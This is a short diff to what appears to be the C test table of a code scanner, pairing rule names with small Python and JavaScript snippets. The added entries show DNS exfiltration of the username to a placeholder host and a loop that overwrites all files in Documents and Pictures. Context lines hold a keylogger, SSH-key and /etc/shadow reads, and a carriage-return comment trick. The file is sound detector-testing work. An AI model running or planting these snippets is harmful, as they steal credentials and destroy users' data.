@@ -66,6 +66,8 @@ static const struct { const char *name, *rule; int language; const char *code; }
 	{ "handed on with a file of its own", "!any/system-write", PY, "import os, threading\nthreading.Thread(target=os.remove, args=('motd',)).start()\n" },
 	{ "what a listener hears reaches its function", "python/keys-recorded", PY, "from pynput import keyboard\ndef p(k):\n    f.write(str(k))\nkeyboard.Listener(on_press=p).start()\n" },
 	{ "a variable that names the home directory", "any/secret-read", PY, "import os\nopen(os.environ['HOME'] + '/.ssh/id_rsa')\n" },
+	{ "a text with a gap stays one when it is encoded", "python/data-in-lookup", PY, "import socket, getpass, base64\nh = base64.b64encode(('%s|x' % getpass.getuser()).encode()).hex()\nsocket.gethostbyname('%s.t.example.net' % h)\n" },
+	{ "one of several directories", "python/rewrite-found", PY, "import pathlib\ndef f(p):\n    p.write_bytes(b'x')\nfor t in ('Documents', 'Pictures'):\n    for p in (pathlib.Path.home() / t).rglob('*'):\n        f(p)\n" },
 	{ "the directory of a file is not the file", "!python/own-text", PY, "import os\nopen(os.path.join(os.path.dirname(__file__), 'a'))\n" },
 	{ "a line ends at a carriage return, a comment with it", "any/secret-read", PY, "# hello\ropen('/etc/shadow')\r" },
 	{ "and so does the first line of a script", "any/secret-read", JS, "#!/usr/bin/env node\rrequire('fs').readFileSync('/etc/shadow');\n" },
